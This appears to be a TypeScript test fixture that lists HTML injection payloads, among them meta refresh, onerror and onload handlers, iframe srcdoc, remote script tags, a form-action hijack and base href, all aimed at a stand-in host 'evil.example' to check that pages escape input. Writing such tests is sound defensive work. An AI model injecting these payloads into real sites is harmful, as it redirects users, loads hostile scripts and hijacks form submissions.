/** A host that a page must never ask for anything. No request reaches it: the browser of the tests notes it instead. */
export const elsewhere = 'https://evil.example'

/** Markup by which a browser leaves a page without a click, and without a script. */
export const refresh = `<meta http-equiv=refresh content="0;url=${elsewhere}">`

/** Markup that asks for something that is not there, and runs a script when it does not come. */
const handler = `<img src=x onerror="location='${elsewhere}'">`

/** Text that looks escaped: it must not become markup, and must not be shown as if it had been. */
const escapedAlready = `&lt;meta http-equiv=refresh content="0;url=${elsewhere}"&gt;`

/** Markup that leads elsewhere, asks for something there or runs a script; and text that looks escaped. */
export const attacks: readonly string[] = [
  refresh,
  handler,
  `<img src=${elsewhere}/image>`,
  `"><iframe src=${elsewhere}></iframe>`,
  `<iframe srcdoc="<meta http-equiv=refresh content='0;url=${elsewhere}'>"></iframe>`,
  `<svg onload="location='${elsewhere}'"><image href=${elsewhere}/image />`,
  `</select></form><form action=${elsewhere}><button autofocus>`,
  `<script src=${elsewhere}></script>`,
  `<link rel=stylesheet href=${elsewhere}/style><base href=${elsewhere}>`,
  `<style>@import '${elsewhere}/style'</style>`,
  `<a href="javascript:location='${elsewhere}'" autofocus>Robbery</a>`,
  escapedAlready,
]
